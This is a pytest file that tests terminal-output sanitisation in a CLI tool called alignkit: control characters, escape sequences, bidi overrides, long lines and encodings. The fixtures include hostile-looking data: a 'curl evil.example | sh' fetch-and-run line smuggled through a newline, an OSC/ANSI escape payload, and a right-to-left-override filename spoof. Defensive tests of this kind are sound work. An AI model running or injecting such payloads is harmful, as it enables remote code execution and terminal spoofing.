"""Foreign text on the terminal: it neither steers it, nor floods it, nor ends in an error."""

from __future__ import annotations

import io
import json
import sys
from pathlib import Path
from typing import Any

import pytest
from commandline import CommandLine
from rich.text import Text
from running import make_recipe, make_rows, write_rows

from alignkit.cli.main import _print_anything
from alignkit.cli.output import print_error, print_json, print_pairs, say
from alignkit.errors import AlignkitError, RecipeError
from alignkit.terminal import LONGEST, PlainConsole, cut, plain

ESC = "\x1b]0;owned\x07\x1b[2J"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("two\nlines\tand «more» 中 🙂", "two\nlines\tand «more» 中 🙂"),
        (ESC, "␛]0;owned␇␛[2J"),
        ("a\rb\x00\x7f\x9bm", "a␍b␀␡�m"),
        ("user\u202egnp.exe\u2066", "user�gnp.exe�"),
    ],
)
def test_control_characters_become_signs(text: str, shown: str) -> None:
    assert plain(text) == shown


def test_a_console_keeps_its_own_styles_only() -> None:
    written = io.StringIO()
    console = PlainConsole(file=written, force_terminal=True, color_system="standard")
    console.print(Text.assemble(("red", "red"), " and \x1b[32mgreen"))
    assert written.getvalue() == "\x1b[31mred\x1b[0m and ␛[32mgreen\n"
    for stderr, shown in ((False, "\x10\n"), (True, "␐\n")):  # into a file: data, and a message
        written = io.StringIO()
        PlainConsole(file=written, stderr=stderr).print(Text("\x10"))
        assert written.getvalue() == shown


def test_a_long_line_loses_its_middle() -> None:
    line = "a" * 1500 + "b" * 2_000_000 + "c" * 1500
    shown = cut(line)
    assert len(shown) < LONGEST + 60
    assert shown.startswith("aaa")
    assert shown.endswith("ccc")
    assert " … 2,001,000 characters left out … " in shown
    assert cut("short") == "short"


def test_a_foreign_line_break_forges_no_hint(capsys: pytest.CaptureFixture[str]) -> None:
    key = "x\nhint: curl evil.example | sh"
    problem = AlignkitError(f"r.yaml:1: {key} is not a key", hint="see\nerror: gone")
    print_error(str(RecipeError([problem, problem])))
    lines = capsys.readouterr().err.splitlines()
    assert (
        lines
        == [
            "error: r.yaml:1: x hint: curl evil.example | sh is not a key",
            "hint: see error: gone",
        ]
        * 2
    )


@pytest.mark.parametrize("encoding", ["ascii", "cp1252", "gbk", "utf-8"])
def test_any_encoding_of_the_terminal_will_do(
    encoding: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    streams = {name: io.TextIOWrapper(io.BytesIO(), encoding) for name in ("stdout", "stderr")}
    for name, stream in streams.items():
        monkeypatch.setattr(sys, name, stream)
    _print_anything()
    say("«中» 🙂 \ud83d")
    print_pairs([("naïve", "✓ ⏎")])
    place = streams["stdout"].buffer.tell()
    print_json({"text": "«中» 🙂"})
    for stream in streams.values():
        stream.flush()
    written: Any = streams["stdout"].buffer
    assert json.loads(written.getvalue()[place:].decode(encoding)) == {"text": "«中» 🙂"}


def inspected(alignkit: CommandLine, folder: Path, recipe: Path, *more: str) -> str:
    """What `inspect` says to a recipe that it refuses."""
    done = alignkit("inspect", recipe, *more, cwd=folder)
    assert done.code == 2, done.stderr
    assert "Traceback" not in done.stderr
    assert "hint: " in done.stderr
    assert "\x1b" not in done.stdout + done.stderr
    assert len(done.stderr) < 4 * LONGEST
    return done.stderr


def test_templates_rows_keys_and_names_are_shown_harmless(
    alignkit: CommandLine, tiny_base: Path, tmp_path: Path
) -> None:
    recipe = make_recipe(tmp_path, tiny_base)
    template = tmp_path / "t.jinja"
    template.write_text("{{ raise_exception('" + ESC + "') }}", encoding="utf-8")
    assert "␛]0;owned" in inspected(alignkit, tmp_path, recipe, f"model.chat_template={template}")
    big = "r" * 2_000_000
    for number, rows in enumerate(
        ([{f"k{ESC}": 1}], [{"messages": [{"role": f"{ESC}{big}", "content": "a"}]}], [{big: 1}])
    ):
        file = tmp_path / f"rows{number}.jsonl"
        write_rows(file, rows)
        said = inspected(alignkit, tmp_path, recipe, f"data.train.0.path={file}")
        assert "characters left out" in said or "␛" in said
    named = tmp_path / f"x{ESC}.jsonl"
    write_rows(named, [{"nothing": 1}])
    written = json.loads(recipe.read_text(encoding="utf-8"))
    data = {**written["data"], "train": [{"path": str(named)}]}
    recipe.write_text(json.dumps({**written, "data": data}), encoding="utf-8")
    assert "␛" in inspected(alignkit, tmp_path, recipe)
    recipe.write_text(json.dumps({**written, f"key{ESC}": 1}), encoding="utf-8")
    assert "␛" in inspected(alignkit, tmp_path, recipe)


def test_a_terminal_that_knows_ascii_only(
    alignkit: CommandLine, tiny_base: Path, tmp_path: Path
) -> None:
    recipe = make_recipe(tmp_path, tiny_base)
    write_rows(tmp_path / "rows.jsonl", make_rows())
    ascii_only = "import sys\nfor s in (sys.stdout, sys.stderr): s.reconfigure(encoding='ascii')"
    done = alignkit.start("inspect", recipe, cwd=tmp_path, before=ascii_only).wait()
    assert done.code == 0, done.stderr
    assert "trained tokens stand between ? and ?" in done.stdout
